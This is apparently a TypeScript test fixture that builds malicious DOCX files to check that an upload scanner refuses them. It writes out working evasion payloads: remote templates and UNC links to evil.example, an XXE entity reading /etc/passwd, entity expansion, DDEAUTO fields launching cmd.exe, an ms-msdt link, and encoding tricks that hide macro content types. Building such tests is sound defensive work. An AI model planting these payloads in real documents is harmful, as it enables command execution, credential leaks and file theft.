// DOCX attacks that are written in unusual encodings (character references, UTF-16), so that a search of the raw bytes
// does not find them.
import { docxBody, docxTypes, MACRO_WORD, makeDocx, WORD } from './documents.ts';

/** A hostile file with the description of its attack. */
export interface Attack {
  about: string;
  /** The error code with which the upload must be refused; `file_unsafe` by default. */
  fate?: 'file_type' | 'file_unsafe';
  bytes: Buffer | Promise<Buffer>;
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships';

const relations = (inner: string, declaration = '<?xml version="1.0"?>') =>
  `${declaration}<Relationships xmlns="${PACKAGE}">${inner}</Relationships>`;
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  relations(`<Relationship Id="rId9" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`);
const template = relation('attachedTemplate', 'https://evil.example/a.dotm');
const link = (target: string) => relation('hyperlink', target);

const utf16le = (text: string) => Buffer.from(text, 'utf16le');
const utf16be = (text: string) => utf16le(text).swap16();
/** Writes each character as a character reference, decimal and hexadecimal in turn. */
const referenced = (text: string) =>
  [...text]
    .map((letter, at) => (at % 2 ? `&#x${letter.charCodeAt(0).toString(16)};` : `&#${letter.charCodeAt(0)};`))
    .join('');

const withRels = (data: string | Buffer, name = 'word/_rels/document.xml.rels') =>
  makeDocx({ extra: [{ name, data }] });
const settingsRels = (data: string | Buffer) => withRels(data, 'word/_rels/settings.xml.rels');
const withBody = (body: string) => makeDocx({ document: docxBody(body) });

const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const end =
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...runs: string[]) => withBody(`<w:p>${begin}${runs.join('')}${end}</w:p>`);

const encodings = (): Attack[] => [
  {
    about: 'a template in UTF-16 LE with a byte order mark',
    bytes: settingsRels(Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le(template)])),
  },
  {
    about: 'a template in UTF-16 BE with a byte order mark',
    bytes: settingsRels(Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(template)])),
  },
  { about: 'a template in UTF-16 LE without a byte order mark', bytes: settingsRels(utf16le(template)) },
  { about: 'a template in UTF-16 BE without a byte order mark', bytes: settingsRels(utf16be(template)) },
  {
    about: 'an encoding that only some parsers know (UTF-7)',
    bytes: settingsRels(
      '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships xmlns=+ACI-a+ACI-+AD4-+ADw-/Relationships+AD4-',
    ),
  },
  {
    about: 'a template whose type and mode are character references',
    bytes: settingsRels(
      relations(
        `<Relationship Id="a" Type="${referenced(`${OFFICE}/attachedTemplate`)}" Target="https://evil.example/a.dotm" TargetMode="${referenced('External')}"/>`,
      ),
    ),
  },
  {
    about: 'a template under a namespace prefix',
    bytes: settingsRels(
      `<?xml version="1.0"?><p:Relationships xmlns:p="${PACKAGE}"><p:Relationship Id="a" Type="${OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></p:Relationships>`,
    ),
  },
  {
    about: 'a template whose mode comes from an entity of a DTD',
    bytes: settingsRels(
      `<?xml version="1.0"?><!DOCTYPE Relationships [<!ENTITY e "External">]><Relationships xmlns="${PACKAGE}"><Relationship Id="a" Type="${OFFICE}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="&e;"/></Relationships>`,
    ),
  },
  {
    about: 'a DTD with an external entity in the document',
    bytes: makeDocx({
      document: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${docxBody('<w:p><w:r><w:t>&x;</w:t></w:r></w:p>').replace('<?xml version="1.0"?>', '')}`,
    }),
  },
  {
    about: 'a DTD with entities that multiply',
    bytes: makeDocx({
      extra: [
        {
          name: 'word/styles.xml',
          data: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
        },
      ],
    }),
  },
];

const parts = (): Attack[] => [
  {
    about: 'an altChunk relationship',
    bytes: makeDocx({
      document: docxBody('<w:altChunk r:id="rId9"/>'),
      types: docxTypes(WORD, '<Default Extension="html" ContentType="text/html"/>'),
      extra: [
        { name: 'word/_rels/document.xml.rels', data: relation('aFChunk', '/word/afchunk.html', '') },
        { name: 'word/afchunk.html', data: '<html><img src="https://evil.example/a.png"></html>' },
      ],
    }),
  },
  {
    about: 'an altChunk element under another prefix',
    bytes: withBody('<z:altChunk xmlns:z="http://schemas.openxmlformats.org/wordprocessingml/2006/main" r:id="rId9"/>'),
  },
  {
    about: 'an embedded object outside of the usual folder',
    bytes: makeDocx({
      extra: [
        { name: 'word/_rels/document.xml.rels', data: relation('oleObject', 'data/item1.bin', '') },
        { name: 'word/data/item1.bin', data: 'not a compound file' },
      ],
    }),
  },
  {
    about: 'macros by a content type in character references',
    fate: 'file_type',
    bytes: makeDocx({
      types: docxTypes(WORD, `<Override PartName="/word/a.xml" ContentType="${referenced(MACRO_WORD)}"/>`),
    }),
  },
  {
    about: 'macros by a content type in mixed case',
    fate: 'file_type',
    bytes: makeDocx({
      types: docxTypes(WORD, '<Default Extension="bin" ContentType="application/vnd.ms-office.VBAPROJECT"/>'),
      extra: [{ name: 'word/code.bin', data: 'x' }],
    }),
  },
  {
    about: 'macros by a list of types in UTF-16',
    fate: 'file_type',
    bytes: makeDocx({
      types: Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        utf16le(`${docxTypes(WORD, `<Override PartName="/word/a.xml" ContentType="${MACRO_WORD}"/>`)}<!-- `),
        // A check that reads these bytes as Latin-1 finds a harmless content type. Word reads UTF-16, in which the
        // bytes are other characters inside a comment.
        Buffer.from('wordprocessingml.document.main+xml', 'latin1'),
        utf16le(' -->'),
      ]),
    }),
  },
  {
    about: 'relationships whose part name is percent-encoded',
    bytes: withRels(template, 'word/_rels/settings.xml%2erels'),
  },
  {
    about: 'a part that differs from another only in case',
    bytes: makeDocx({ extra: [{ name: 'WORD/Document.xml', data: docxBody('') }] }),
  },
  {
    about: 'relationships in interleaved pieces',
    bytes: makeDocx({
      extra: [
        { name: 'word/_rels/settings.xml.rels/[0].piece', data: template.slice(0, 90) },
        { name: 'word/_rels/settings.xml.rels/[1].last.piece', data: template.slice(90) },
      ],
    }),
  },
  {
    about: 'a document declared as a picture',
    bytes: makeDocx({
      types: docxTypes(WORD, `<Override PartName="/word/media/a.png" ContentType="${WORD}"/>`),
      extra: [
        { name: 'word/media/a.png', data: docxBody(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>`) },
      ],
    }),
  },
];

const fields = (): Attack[] => [
  {
    about: 'DDEAUTO split over runs',
    bytes: field(run('DD'), run('EAU'), run('TO c:\\\\windows\\\\cmd.exe "/k calc"')),
  },
  {
    about: 'DDE with a run in a CDATA section',
    bytes: field(run('<![CDATA[D]]>D'), run('<![CDATA[E c:\\\\cmd.exe]]>')),
  },
  { about: 'DDEAUTO in character references', bytes: field(run(referenced('DDEAUTO c:\\\\cmd.exe'))) },
  {
    about: 'dde in small letters in a simple field',
    bytes: withBody('<w:p><w:fldSimple w:instr=" ddeauto c:\\\\cmd.exe "/></w:p>'),
  },
  {
    about: 'an external INCLUDEPICTURE',
    bytes: field(run(' INCLUDE'), run('PICTURE "https://evil.example/a.png" \\d')),
  },
  {
    about: 'an external INCLUDETEXT in a header',
    bytes: makeDocx({
      extra: [
        {
          name: 'word/header1.xml',
          data: docxBody('<w:p><w:fldSimple w:instr="INCLUDETEXT https://evil.example/a.docx"/></w:p>'),
        },
      ],
    }),
  },
  {
    about: 'a nested field that yields the name of the command',
    bytes: withBody(`<w:p>${begin}${begin}${run('QUOTE 68 68 69')}${end}${run(' c:\\\\cmd.exe')}${end}</w:p>`),
  },
  {
    about: 'a HYPERLINK field to another machine',
    bytes: field(run('HYPERLINK "\\\\\\\\evil.example\\\\share\\\\a.docx"')),
  },
];

const targets = (): Attack[] => [
  { about: 'a link to \\\\host', bytes: withRels(link('\\\\evil.example\\share')) },
  { about: 'a link to \\\\host in character references', bytes: withRels(link(referenced('\\\\evil.example\\share'))) },
  { about: 'a link to a file in mixed case', bytes: withRels(link('FiLe:///c:/windows/system32/calc.exe')) },
  { about: 'a link to a percent-encoded file', bytes: withRels(link('%66ile://evil.example/share')) },
  { about: 'a link to a program by a custom scheme', bytes: withRels(link('ms-msdt:/id PCWDiagnostic')) },
  { about: 'an external picture over plain http', bytes: withRels(relation('image', 'http://evil.example/a.png')) },
  {
    about: 'a relationship to \\\\host that does not say that it is external',
    bytes: withRels(relation('image', '\\\\evil.example\\a.png', '')),
  },
];

/** Returns all re-encoded DOCX attacks. */
export const docxAttacks = (): Attack[] => [...encodings(), ...parts(), ...fields(), ...targets()];
